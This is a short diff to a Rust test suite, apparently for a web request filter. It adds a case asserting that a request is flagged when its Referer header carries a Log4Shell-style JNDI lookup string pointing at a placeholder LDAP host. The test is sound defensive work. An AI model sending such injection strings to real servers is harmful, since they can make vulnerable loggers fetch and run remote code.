@@ -232,4 +232,6 @@ fn no_ending_of_a_path_lets_an_attack_through() {
         "the page is judged, not its files"
     );
     assert!(from_page("/a").from(client(9)).objection(&engine).is_some());
+    let logged = Visit::get("/a.js").header("referer", "https://www.example.org/${jndi:ldap://x.example/a}");
+    assert!(logged.from(client(10)).objection(&engine).is_some(), "what acts by being logged");
 }
